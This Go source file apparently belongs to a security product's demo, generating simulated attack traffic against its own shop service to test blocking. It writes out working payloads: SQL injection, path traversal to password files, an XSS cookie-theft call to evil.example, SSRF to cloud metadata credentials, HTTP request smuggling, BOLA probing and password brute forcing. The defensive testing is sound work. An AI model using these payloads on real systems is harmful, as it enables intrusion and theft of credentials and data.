package traffic

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"github.com/vigil-sec/vigil/internal/demo/shop"
)

// Attack tuning.
const (
	bruteForceBurst = 25
	oversizedBytes  = 2 << 20
	rawTimeout      = 5 * time.Second
)

// attacker starts attack scenarios at opts.AttackRate until ctx ends. Every
// kind is sent once per cycle, in a seeded order.
// attackerIP is the attacker's address when Options.ClientAddresses is set;
// deniedIP is an address in the range the demo gateway denies.
const (
	attackerIP = "203.0.113.66"
	deniedIP   = "192.0.2.10"
)

// browserUA is the user agent of attacks that pose as a shopper.
const browserUA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"

func (g *generator) attacker(ctx context.Context, rng *rand.Rand) {
	mean := float64(time.Second) / g.opts.AttackRate
	kinds := attackScenarios()
	var queue []string
	for {
		d := time.Duration(rng.ExpFloat64() * mean)
		if !sleep(ctx, min(d, time.Duration(4*mean))) {
			return
		}
		if len(queue) == 0 {
			for _, i := range rng.Perm(len(kinds)) {
				queue = append(queue, kinds[i])
			}
		}
		kind := queue[0]
		queue = queue[1:]
		g.attack(ctx, rng, kind)
	}
}

// attack runs one attack scenario.
func (g *generator) attack(ctx context.Context, rng *rand.Rand, kind string) {
	victim := g.opts.Users[rng.IntN(len(g.opts.Users))]
	uid := strconv.Itoa(victim.UserID)
	get := func(target, ua string) error {
		_, err := g.send(ctx, request{scenario: kind, attack: true, method: http.MethodGet, target: target, userAgent: ua, clientIP: attackerIP})
		return err
	}
	post := func(target, ua string, body []byte) error {
		_, err := g.send(ctx, request{scenario: kind, attack: true, method: http.MethodPost, target: target, userAgent: ua, body: body, contentType: "application/json", clientIP: attackerIP})
		return err
	}
	switch kind {
	case AttackSQLi:
		// A browser's user agent: the injection, not the tool, is what
		// gives these away.
		payloads := []string{"' OR 1=1--", "socks' UNION SELECT username,password FROM users--", "1; DROP TABLE products;--"}
		if rng.IntN(3) == 0 {
			post("/login", browserUA, []byte(`{"username":"admin' OR '1'='1' --","password":"x"}`))
		} else {
			get("/products?category="+url.QueryEscape(payloads[rng.IntN(len(payloads))]), browserUA)
		}
	case AttackPathTraversal:
		targets := []string{"/products?category=" + url.QueryEscape("../../../../etc/passwd"), "/products?category=" + url.QueryEscape("....//....//....//etc/shadow"),
			"/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd"}
		get(targets[rng.IntN(len(targets))], "curl/8.11.0")
	case AttackXSS:
		if rng.IntN(2) == 0 {
			post("/login", browserUA, fmt.Appendf(nil, `{"username":%q,"password":"x"}`, `<script>fetch('https://evil.example/?c='+document.cookie)</script>`))
		} else {
			get("/products?category="+url.QueryEscape(`"><img src=x onerror=alert(document.domain)>`), browserUA)
		}
	case AttackMassAssignment:
		bodies := []string{
			fmt.Sprintf(`{"username":%q,"password":%q,"role":"admin"}`, victim.Username, victim.Password),
			`{"product_id":1,"quantity":1,"price_cents":1}`,
			`{"product_id":1,"quantity":1,"is_admin":true}`,
		}
		i := rng.IntN(len(bodies))
		target := "/cart/item/add/" + uid
		if i == 0 {
			target = "/login"
		}
		post(target, browserUA, []byte(bodies[i]))
	case AttackWrongType:
		switch rng.IntN(3) {
		case 0:
			post("/cart/item/add/"+uid, browserUA, []byte(`{"product_id":"one","quantity":"lots"}`))
		case 1:
			get("/products?limit=all", browserUA)
		default:
			get("/cart/items/me", browserUA)
		}
	case AttackUndocumented:
		switch rng.IntN(3) {
		case 0:
			get("/internal/debug/users/"+uid, "python-requests/2.32.3")
		case 1:
			get("/users/"+uid+"/export", "python-requests/2.32.3")
		default:
			post("/users/"+uid+"/role", "python-requests/2.32.3", []byte(`{"role":"admin"}`))
		}
	case AttackBot:
		get("/products?category=socks", "sqlmap/1.8.11#stable (https://sqlmap.org)")
	case AttackSSRF:
		targets := []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:2375/containers/json", "http://[::ffff:a9fe:a9fe]/computeMetadata/v1/"}
		post("/order/add/"+uid, browserUA, fmt.Appendf(nil, `{"items":[],"shipping_address":{"street":"1 Main St","city":"Springfield","zip":"12345","country":"US"},`+
			`"payment":{"number":"4111111111111111","exp_month":12,"exp_year":%d,"cvc":"123"},"callback_url":%q}`, time.Now().Year()+2, targets[rng.IntN(len(targets))]))
	case AttackDeniedIP:
		g.send(ctx, request{scenario: kind, attack: true, method: http.MethodGet, target: "/products", userAgent: browserUA, clientIP: deniedIP})
	case AttackScanner:
		for _, p := range []string{"/.env", "/admin", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php"} {
			if get(p, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)") != nil && ctx.Err() != nil {
				return
			}
		}
	case AttackOversized:
		body := make([]byte, 0, oversizedBytes+64)
		body = append(body, `{"product_id":1,"quantity":1,"padding":"`...)
		body = append(body, strings.Repeat("A", oversizedBytes)...)
		body = append(body, `"}`...)
		post("/cart/item/add/"+uid, "python-requests/2.32.3", body)
	case AttackBOLA:
		g.bola(ctx, rng, victim.UserID)
	case AttackSmuggling:
		g.smuggle(ctx, uid)
	case AttackBruteForce:
		words := []string{"123456", "password", "qwerty", "letmein", "admin", "welcome", "iloveyou", "monkey", "dragon", "111111", "abc123", "football", "shadow", "master", "sunshine",
			"princess", "baseball", "trustno1", "superman", "hello123", "freedom", "whatever", "qazwsx", "michael", "654321"}
		for i := range bruteForceBurst {
			body := fmt.Appendf(nil, `{"username":%q,"password":%q}`, victim.Username, words[i%len(words)])
			if post("/login", "python-requests/2.32.3", body) != nil && ctx.Err() != nil {
				return
			}
		}
	}
}

// bola signs in with a customer's own account and walks other customers'
// objects with that valid token: their carts (which the cart service
// hands to any caller) and their profiles.
func (g *generator) bola(ctx context.Context, rng *rand.Rand, victim int) {
	users := g.opts.Users
	var own shop.Credentials
	for _, u := range users {
		if u.UserID != victim {
			own = u
			break
		}
	}
	if own.UserID == 0 {
		return
	}
	r, err := g.send(ctx, request{scenario: AttackBOLA, attack: true, method: http.MethodPost, target: "/login", endpoint: "POST /login", userAgent: browserUA, clientIP: attackerIP,
		body: fmt.Appendf(nil, `{"username":%q,"password":%q}`, own.Username, own.Password), contentType: "application/json"})
	if err != nil || r.status != http.StatusOK {
		return
	}
	var lr shop.LoginResponse
	if json.Unmarshal(r.body, &lr) != nil || lr.Token == "" {
		return
	}
	targets := []string{"/cart/items/", "/cart/total/", "/users/"}
	for _, t := range targets[:1+rng.IntN(len(targets))] {
		if _, err := g.send(ctx, request{scenario: AttackBOLA, attack: true, method: http.MethodGet, target: t + strconv.Itoa(victim), token: lr.Token, userAgent: browserUA, clientIP: attackerIP}); err != nil && ctx.Err() != nil {
			return
		}
	}
}

// smuggle sends one CL.TE request-smuggling attempt over a raw connection:
// Content-Length covers the whole body, Transfer-Encoding ends it early, and
// what follows is a second, hidden request for /admin.
func (g *generator) smuggle(ctx context.Context, uid string) {
	chunk := `{"product_id":1}`
	body := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: %s\r\n\r\n", len(chunk), chunk, g.base.Host)
	target := g.base.Path + "/cart/item/add/" + uid
	raw := "POST " + target + " HTTP/1.1\r\n" +
		"Host: " + g.base.Host + "\r\n" +
		"User-Agent: Mozilla/5.0 (smuggler)\r\n" +
		"Content-Type: application/json\r\n" +
		"Content-Length: " + strconv.Itoa(len(body)) + "\r\n" +
		"Transfer-Encoding: chunked\r\n" +
		"\r\n" + body
	rec := Record{Scenario: AttackSmuggling, Attack: true, Method: http.MethodPost, Target: target}
	start := time.Now()
	status, txn, err := g.rawRoundTrip(ctx, raw)
	if err != nil && ctx.Err() != nil {
		return
	}
	rec.Latency = time.Since(start)
	if err != nil {
		rec.Err = err
	} else {
		rec.Status, rec.TxnID = status, txn
		rec.Blocked = g.opts.IsBlocked(AttackSmuggling, &http.Response{StatusCode: status, Header: http.Header{"Vigil-Txn": {txn}}, Body: http.NoBody})
	}
	g.record(rec, false)
}

// rawRoundTrip writes raw to a new connection to the base URL's host and
// returns the status and Vigil-Txn header of the first response.
func (g *generator) rawRoundTrip(ctx context.Context, raw string) (int, string, error) {
	ctx, cancel := context.WithTimeout(ctx, rawTimeout)
	defer cancel()
	host := g.base.Host
	if g.base.Port() == "" {
		port := "80"
		if g.base.Scheme == "https" {
			port = "443"
		}
		host = net.JoinHostPort(g.base.Hostname(), port)
	}
	var conn net.Conn
	var err error
	if g.base.Scheme == "https" {
		d := tls.Dialer{Config: g.tlsConfig()}
		conn, err = d.DialContext(ctx, "tcp", host)
	} else {
		var d net.Dialer
		conn, err = d.DialContext(ctx, "tcp", host)
	}
	if err != nil {
		return 0, "", err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	if _, err := io.WriteString(conn, raw); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return 0, "", err
	}
	resp.Body.Close()
	return resp.StatusCode, resp.Header.Get("Vigil-Txn"), nil
}

// tlsConfig is the client's TLS configuration, for the raw connection.
func (g *generator) tlsConfig() *tls.Config {
	var cfg *tls.Config
	if tr, ok := g.client.Transport.(*http.Transport); ok && tr.TLSClientConfig != nil {
		cfg = tr.TLSClientConfig.Clone()
	} else {
		cfg = &tls.Config{MinVersion: tls.VersionTLS12}
	}
	if cfg.ServerName == "" {
		cfg.ServerName = g.base.Hostname()
	}
	cfg.NextProtos = []string{"http/1.1"}
	return cfg
}
